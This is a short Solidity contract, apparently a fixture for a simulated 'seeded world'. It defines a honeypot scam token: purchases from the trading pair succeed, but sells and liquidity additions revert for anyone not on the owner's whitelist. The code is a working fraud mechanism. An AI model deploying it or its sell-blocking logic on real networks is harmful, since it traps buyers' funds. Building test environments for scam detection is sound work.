// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";

/// @notice A scam token for the seeded world: buys from the pair work, but any transfer INTO the pair
/// (a sell, or adding liquidity) reverts unless the sender is whitelisted.
contract HoneypotToken is ERC20, Ownable {
    address public pair;
    mapping(address => bool) public whitelisted;

    constructor(string memory tokenName, string memory tokenSymbol, uint256 supply)
        ERC20(tokenName, tokenSymbol)
        Ownable(msg.sender)
    {
        whitelisted[msg.sender] = true;
        _mint(msg.sender, supply);
    }

    function setPair(address newPair) external onlyOwner {
        pair = newPair;
    }

    function setWhitelisted(address account, bool allowed) external onlyOwner {
        whitelisted[account] = allowed;
    }

    function _update(address from, address to, uint256 value) internal override {
        if (to == pair && pair != address(0) && !whitelisted[from]) revert("TRANSFER_FAILED");
        super._update(from, to, value);
    }
}
